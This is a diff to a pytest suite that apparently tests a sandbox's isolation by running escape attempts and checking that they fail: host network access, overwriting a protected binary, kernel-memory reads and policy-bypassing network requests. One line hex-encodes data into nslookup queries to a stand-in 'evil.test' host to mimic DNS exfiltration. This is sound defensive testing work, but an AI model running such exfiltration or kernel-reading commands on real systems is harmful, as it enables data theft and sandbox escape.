@@ -13,7 +13,7 @@ import pytest
 sys.path.insert(0, os.path.join(os.path.dirname(__file__), ".."))
 
 from helpers import find_dsec_bin, stop_quietly  # noqa: E402
-from netfixture import NPM, PYPI, PYPI6, NetUp, TestServers, denied, run  # noqa: E402
+from netfixture import NPM, PYPI, PYPI6, HostListener, NetUp, TestServers, denied, get, run  # noqa: E402
 
 import dsec  # noqa: E402
 
@@ -81,8 +81,18 @@ def test_forge_requests_to_edge_apiserver_aether(rt, victim):
     up, _ = rt
     port = up.port
     d0 = denied(victim)
-    fails(victim, f"wget -q -T 2 -O - http://127.0.0.1:{port}/healthz")
-    fails(victim, f"wget -q -T 2 -O - http://10.231.0.1:{port}/healthz")
+    # The sandbox's 127.0.0.1 is its own loopback, not the host's where the API listens.
+    fails(victim, get(f"http://127.0.0.1:{port}/healthz"))
+    fails(victim, get(f"http://10.231.0.1:{port}/healthz"))
+    # Even a host service listening on every address is closed to the sandbox.
+    svc = HostListener()
+    try:
+        for host in ["10.231.0.1", "198.18.7.1"]:
+            out = fails(victim, get(f"http://{host}:{svc.port}/"))
+            assert "host-secret-service" not in out
+        assert svc.accepted == 0
+    finally:
+        svc.close()
     # aether's channel is an inherited fd, not a path, and hidden from /proc.
     fails(victim, "ls -l /proc/1/fd/3")
     fails(victim, "ls /run/*.sock /*.sock /tmp/*.sock 2>/dev/null | grep .")
@@ -100,8 +110,14 @@ def test_overwrite_protected_binary_and_test_file(victim):
     # The verifier's command still runs the untampered busybox.
     code, out = run(victim, "busybox echo verifier-ok")
     assert code == 0 and "verifier-ok" in out
-    # Everything else stays writable.
-    assert run(victim, "echo fine > /root/f && echo fine > /tmp/f && mkdir -p /work && echo ok > /work/x")[0] == 0
+    # Everything else stays writable: other directories fully, and the other entries of the
+    # protected paths' parents (whose entry lists Landlock freezes, see
+    # crates/aether/src/setup/landlock.rs), e.g. /etc/hosts next to /etc/passwd.
+    code, out = run(victim, "echo fine > /root/f && echo fine > /tmp/f && mkdir -p /root/work/x && echo ok > /root/work/x/y"
+                            " && echo '# ok' >> /etc/hosts && rm /root/f")
+    assert code == 0, out
+    # The protected entries' parents take no new entries (renaming a copy over them is the attack).
+    fails(victim, "touch /bin/busybox2")
 
 
 # --- the kernel ----------------------------------------------------------------------------
@@ -109,8 +125,10 @@ def test_overwrite_protected_binary_and_test_file(victim):
 
 @pytest.mark.parametrize("path", ["/proc/kpagecgroup", "/proc/kcore", "/dev/mem", "/proc/sysrq-trigger"])
 def test_read_kernel_memory(victim, path):
-    out = fails(victim, f"head -c 16 {path} | od | head -2; test -s {path} && head -c 1 {path} | od | grep -q .")
-    assert "0000000" not in out or "No such" in out or "denied" in out
+    # Masked (absent, or /dev/null bound over it): not one byte of kernel memory comes back.
+    code, out = run(victim, f"head -c 16 {path} 2>/dev/null | wc -c")
+    assert code == 0 and out.strip() == "0", (path, out)
+    fails(victim, f"n=$(head -c 16 {path} | wc -c); [ $n -gt 0 ]")
 
 
 def test_firmware_masked(victim):
@@ -153,17 +171,17 @@ def test_scan_host_ports(victim):
 
 def test_non_allowed_domain_by_name_ip_resolver_tunnel_v6_port(victim):
     st0 = victim.network()
-    fails(victim, "wget -q -T 2 -O - http://npm.test/")
-    fails(victim, f"wget -q -T 2 -O - http://{NPM}/")
+    fails(victim, get("http://npm.test/"))
+    fails(victim, get(f"http://{NPM}/"))
     fails(victim, f"nslookup npm.test {PYPI}")                      # a non-allowed resolver
     run(victim, "for i in 1 2 3; do nslookup $(echo leak$i | od -An -tx1 | tr -d ' \\n').t.evil.test; done")
-    fails(victim, f"wget -q -T 2 -O - http://[{PYPI6}]/")           # over IPv6
-    fails(victim, "wget -q -T 2 -O - http://pypi.test:8080/")       # non-allowed port of an allowed host
+    fails(victim, get(f"http://[{PYPI6}]/"))           # over IPv6
+    fails(victim, get("http://pypi.test:8080/"))       # non-allowed port of an allowed host
     st = victim.network()
     assert st["denied_packets"] > st0["denied_packets"]
     assert st["dns_refused"] >= st0["dns_refused"] + 4
     # The allowed one works, so the failures above are the policy, not a broken network.
-    assert "reference-solution-42" in run(victim, "wget -q -T 2 -O - http://pypi.test/")[1]
+    assert "reference-solution-42" in run(victim, get("http://pypi.test/"))[1]
 
 
 # --- resources -----------------------------------------------------------------------------
